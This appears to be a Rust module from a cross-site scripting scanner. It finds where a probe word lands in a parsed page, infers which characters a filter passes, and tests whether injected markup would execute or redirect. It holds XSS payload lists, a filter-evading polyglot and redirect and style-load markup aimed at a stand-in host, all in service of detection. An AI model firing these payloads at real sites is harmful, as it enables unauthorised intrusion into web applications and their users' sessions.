//! Where in a page a word landed, which payloads fit there, and whether one runs: the page is parsed as a
//! browser would parse it.

use std::collections::BTreeSet;

use scraper::Node;

use super::script::{Context, contexts};

/// Where the word landed in a page.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Landing {
    Text,
    /// Inside an element whose content is raw text; the number picks its name.
    Raw(&'static str),
    Comment,
    Attribute,
    /// At the start of an address.
    Address,
    /// In the name of a tag or an attribute.
    Name,
    Script(ScriptContext),
}

/// [`Context`] with an order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum ScriptContext {
    Code,
    Single,
    Double,
    Template,
    Comment,
}

/// Payloads that run where markup is parsed.
const MARKUP: [&str; 5] = [
    "<svg onload={word}()>",
    "<img src=x onerror={word}()>",
    "<script>{word}()</script>",
    "<a href=javascript:{word}()>x</a>",
    "<iFrAmE/src=javascript:{word}()>",
];

/// Many ways at once, for filters that let only some through: those that know a few elements, those that
/// look at the first line only.
pub(super) const MANY_WAYS: &str = "\n<svg onload={word}()><img src=x onerror={word}()><div onmouseover={word}()>x</div>\
    <style onload={word}()></style><iframe onload={word}()></iframe><a href=javascript:{word}()>x</a>\
    <iframe srcdoc=\"<script>{word}()</script>\"></iframe><script src=data:,{word}()></script>\
    <body onload={word}()>";

/// Markup without script, in ways that filters which look for script let through: a page that is left, and
/// a style that loads from elsewhere. The names are reserved ones.
pub(super) const STEERING: &str = "<meta http-equiv=refresh content=\"900;url=https://{word}.example/\">\
    <div style=\"background:url(https://{word}.example/)\">x</div>\
    <a style=\"background:url(https://{word}.example/)\">x</a>";

/// Every sign that payloads need, between three words.
pub(super) const CANARY: &str = "{token}'\"<{token}> =():/;\\`${{token}";

/// Signs that a page lets through.
pub(super) struct Sieve {
    /// As they stand, and as a parser reads them; nothing where that is not known.
    kept: Option<(BTreeSet<char>, BTreeSet<char>)>,
}

impl Sieve {
    /// One that lets everything through.
    pub(super) const fn open() -> Self {
        Self { kept: None }
    }

    /// What the answer to the canary shows. An answer that holds a part of it only refused it as a whole,
    /// and tells nothing of its signs.
    pub(super) fn of(body: &str, echo: &str) -> Self {
        let places: Vec<usize> = body.match_indices(echo).map(|(at, _)| at).collect();
        if places.is_empty() || !places.len().is_multiple_of(3) {
            return Self::open();
        }
        let (mut raw, mut read) = (BTreeSet::new(), BTreeSet::new());
        for canary in places.chunks_exact(3) {
            let between = [(canary[0], canary[1]), (canary[1], canary[2])];
            for text in between.map(|(start, end)| &body[start + echo.len()..end]) {
                raw.extend(text.chars());
                read.extend(text.chars());
                let document = crate::html::document(text);
                read.extend(document.root_element().text().flat_map(str::chars));
            }
        }
        Self { kept: Some((raw, read)) }
    }

    pub(super) fn admits(&self, landing: Landing, payload: &str) -> bool {
        let Some((raw, read)) = &self.kept else { return true };
        // Attributes are read before their script runs.
        let kept = if matches!(landing, Landing::Script(_) | Landing::Address) { read } else { raw };
        let signs = payload.replace("{word}", "");
        signs
            .chars()
            .filter(|sign| CANARY.contains(*sign))
            .all(|sign| sign.is_alphanumeric() || sign == '{' || sign == '}' || kept.contains(&sign))
    }
}

/// The payloads that may run there, the likeliest first.
pub(super) fn payloads(landing: Landing) -> Vec<String> {
    let tags = |before: &str| -> Vec<String> { MARKUP.iter().map(|tag| format!("{before}{tag}")).collect() };
    let mut out = Vec::new();
    match landing {
        Landing::Text => out.extend(tags("")),
        Landing::Raw(name) => out.extend(tags(&format!("</{name}>"))),
        Landing::Comment => out.extend(tags("-->")),
        Landing::Attribute => {
            out.extend([
                "\" onfocus={word}() a=\"".into(),
                "' onfocus={word}() a='".into(),
                " onfocus={word}() ".into(),
            ]);
            out.extend(tags("\">").into_iter().take(2));
            out.extend(tags("'>").into_iter().take(2));
            out.extend(tags(">").into_iter().take(1));
        }
        Landing::Address => {
            out.extend(["javascript:{word}()".into(), "data:text/html,<script>{word}()</script>".into()]);
            out.extend(payloads(Landing::Attribute));
        }
        Landing::Name => {
            out.extend([
                " onfocus={word}() ".into(),
                "svg onload={word}() ".into(),
                "onfocus={word}() ".into(),
            ]);
            out.extend(tags(">"));
        }
        Landing::Script(context) => {
            match context {
                ScriptContext::Code => {
                    out.extend(["{word}()".into(), ";{word}();".into(), "\n{word}()\n".into()])
                }
                ScriptContext::Single => out.extend(["'-{word}()-'".into(), "\\'-{word}()//".into()]),
                ScriptContext::Double => out.extend(["\"-{word}()-\"".into(), "\\\"-{word}()//".into()]),
                ScriptContext::Template => out.extend(["${{word}()}".into(), "`-{word}()-`".into()]),
                ScriptContext::Comment => out.extend(["\n{word}()\n".into(), "*/{word}()/*".into()]),
            }
            out.extend(tags("</script>").into_iter().take(2));
        }
    }
    if matches!(landing, Landing::Text | Landing::Raw(_)) {
        out.push(MANY_WAYS.to_owned());
    }
    out
}

/// Where the word landed, each kind once.
pub(super) fn landings(body: &str, word: &str) -> Vec<Landing> {
    let document = crate::html::document(body);
    let mut out = Vec::new();
    for node in document.tree.nodes() {
        match node.value() {
            Node::Text(text) if text.contains(word) => {
                let parent = node.parent().and_then(|parent| parent.value().as_element());
                out.extend(match parent.map(|element| element.name()) {
                    Some("script") => in_script(text, word),
                    Some("textarea") => vec![Landing::Raw("textarea")],
                    Some("title") => vec![Landing::Raw("title")],
                    Some("style") => vec![Landing::Raw("style")],
                    Some("noscript") => vec![Landing::Raw("noscript")],
                    Some("iframe") => vec![Landing::Raw("iframe")],
                    Some("xmp") => vec![Landing::Raw("xmp")],
                    Some("noembed") => vec![Landing::Raw("noembed")],
                    Some("noframes") => vec![Landing::Raw("noframes")],
                    Some("template") | None | Some(_) => vec![Landing::Text],
                });
            }
            Node::Comment(comment) if comment.contains(word) => out.push(Landing::Comment),
            Node::Element(element) => {
                if element.name().contains(word) {
                    out.push(Landing::Name);
                }
                for (name, value) in element.attrs() {
                    if name.contains(word) {
                        out.push(Landing::Name);
                    }
                    if !value.contains(word) {
                        continue;
                    }
                    if name.starts_with("on") {
                        out.extend(in_script(value, word));
                    } else if takes_address(element, name) && value.trim_start().starts_with(word) {
                        out.push(Landing::Address);
                    } else if is_address(name)
                        && value.trim_start().to_ascii_lowercase().starts_with("javascript:")
                    {
                        out.extend(in_script(value, word));
                    }
                    out.push(Landing::Attribute);
                }
            }
            _ => {}
        }
    }
    out.sort();
    out.dedup();
    out
}

fn in_script(text: &str, word: &str) -> Vec<Landing> {
    contexts(text, word)
        .into_iter()
        .map(|context| {
            Landing::Script(match context {
                Context::Code | Context::Regex => ScriptContext::Code,
                Context::Single => ScriptContext::Single,
                Context::Double => ScriptContext::Double,
                Context::Template => ScriptContext::Template,
                Context::LineComment | Context::BlockComment => ScriptContext::Comment,
            })
        })
        .collect()
}

fn is_address(name: &str) -> bool {
    matches!(name, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "poster" | "background")
}

/// Whether a browser takes the attribute for an address, that of a plug-in's parameter included.
fn takes_address(element: &scraper::node::Element, name: &str) -> bool {
    let plug_in = element.name() == "param"
        && name == "value"
        && element.attr("name").is_some_and(|of| {
            matches!(of.to_ascii_lowercase().as_str(), "src" | "movie" | "url" | "data" | "code" | "href")
        });
    plug_in || is_address(name)
}

/// Whether `word()` stands where a browser runs it.
pub(super) fn runs(body: &str, word: &str) -> bool {
    let call = format!("{word}()");
    if !body.contains(&call) {
        return false;
    }
    let in_code = |text: &str| {
        contexts(text, word)
            .iter()
            .zip(text.match_indices(word))
            .any(|(context, (at, _))| *context == Context::Code && text[at..].starts_with(&call))
            || text.contains(&format!("${{{call}}}"))
    };
    let document = crate::html::document(body);
    for node in document.tree.nodes() {
        match node.value() {
            Node::Text(text) if text.contains(&call) => {
                let script = node.parent().and_then(|parent| parent.value().as_element()).filter(|element| {
                    let kind = element.attr("type").unwrap_or_default().to_ascii_lowercase();
                    let runnable = kind.is_empty() || kind.contains("javascript") || kind == "module";
                    element.name() == "script" && runnable
                });
                if script.is_some() && in_code(text) {
                    return true;
                }
            }
            Node::Element(element) => {
                for (name, value) in element.attrs() {
                    if !value.contains(&call) {
                        continue;
                    }
                    let lower = value.trim_start().to_ascii_lowercase();
                    let handler = name.starts_with("on") && name.len() > 4 && in_code(value);
                    let address = takes_address(element, name)
                        && lower.starts_with("javascript:")
                        && in_code(value.trim_start().get(11..).unwrap_or_default());
                    let data = is_address(name)
                        && matches!(element.name(), "iframe" | "object" | "embed" | "frame")
                        && lower.starts_with("data:text/html,");
                    let source = element.name() == "script"
                        && name == "src"
                        && lower
                            .strip_prefix("data:")
                            .and_then(|rest| rest.split_once(','))
                            .is_some_and(|(_, code)| in_code(code));
                    let document = element.name() == "iframe" && name == "srcdoc" && runs(value, word);
                    if handler || address || data || source || document {
                        return true;
                    }
                }
            }
            _ => {}
        }
    }
    false
}

/// Whether markup with the word leads the browser away or loads from elsewhere by itself.
pub(super) fn steers(body: &str, word: &str) -> bool {
    let host = format!("//{word}.example");
    if !body.contains(&host) {
        return false;
    }
    let document = crate::html::document(body);
    document.tree.nodes().filter_map(|node| node.value().as_element()).any(|element| {
        let leaves = element.name() == "meta"
            && element.attr("http-equiv").is_some_and(|value| value.eq_ignore_ascii_case("refresh"))
            && element
                .attr("content")
                .and_then(crate::html::refresh_target)
                .is_some_and(|to| to.contains(&host));
        let loads = element.attr("style").is_some_and(|style| style.contains(&format!("url(https:{host}")));
        leaves || loads
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_runs_counts() {
        for (body, expected) in [
            ("<svg onload=w()>", true),
            ("&lt;svg onload=w()&gt;", false),
            ("<textarea><svg onload=w()></textarea>", false),
            ("<!-- <svg onload=w()> -->", false),
            ("<script>var a = 'w()';</script>", false),
            ("<script>var a = ''-w()-'';</script>", true),
            ("<script type=text/template>w()</script>", false),
            ("<a href='javascript:w()'>", true),
            ("<a href='/javascript:w()'>", false),
            ("<input value='w()' onfocus=\"x('w()')\">", false),
            ("<iframe srcdoc='&lt;script>w()&lt;/script>'>", true),
            ("<script src=data:,w()></script>", true),
            ("<script src='/data:,w()'></script>", false),
            ("<div title=\"<img src=x onerror=w()>\">", false),
        ] {
            assert_eq!(runs(body, "w"), expected, "{body}");
        }
    }

    #[test]
    fn landings_are_told_apart() {
        let found = |body: &str| landings(body, "qqq");
        assert_eq!(found("<p>qqq</p>"), [Landing::Text]);
        assert_eq!(found("<title>qqq</title>"), [Landing::Raw("title")]);
        assert_eq!(found("<a href='qqq'>"), [Landing::Attribute, Landing::Address]);
        assert_eq!(found("<script>x=\"qqq\"</script>"), [Landing::Script(ScriptContext::Double)]);
        assert_eq!(found("<!--qqq-->"), [Landing::Comment]);
    }

    #[test]
    fn a_sieve_knows_what_comes_through() {
        let sieve =
            |between: [&str; 2]| Sieve::of(&format!("<p>qqq{}qqq{}qqq</p>", between[0], between[1]), "qqq");
        let markup = "<svg onload={word}()>";
        assert!(sieve(["'\"<", "> =():/;\\`${"]).admits(Landing::Text, markup));
        let escaped = sieve(["&#39;&quot;&lt;", "&gt; =():/;\\`${"]);
        assert!(!escaped.admits(Landing::Text, markup));
        assert!(escaped.admits(Landing::Script(ScriptContext::Single), "'-{word}()-'"), "read in attributes");
        assert!(escaped.admits(Landing::Attribute, " onfocus={word}() "));
        assert!(!sieve(["'\"<", "%3E%20%3D%28%29"]).admits(Landing::Attribute, " onfocus={word}() "));
        assert!(Sieve::of("<p>no</p>", "qqq").admits(Landing::Text, markup), "nothing is known");
    }

    #[test]
    fn only_markup_that_is_read_leads_away() {
        let body = |text: &str| text.replace("W", "//w.example/");
        for (text, expected) in [
            ("<meta http-equiv=refresh content='9;url=https:W'>", true),
            ("<div style='background:url(https:W)'>", true),
            ("<div title='background:url(https:W)'>", false),
            ("&lt;div style='background:url(https:W)'>", false),
            ("<p>https:W</p>", false),
            ("<textarea><div style='background:url(https:W)'></textarea>", false),
        ] {
            assert_eq!(steers(&body(text), "w"), expected, "{text}");
        }
    }
}
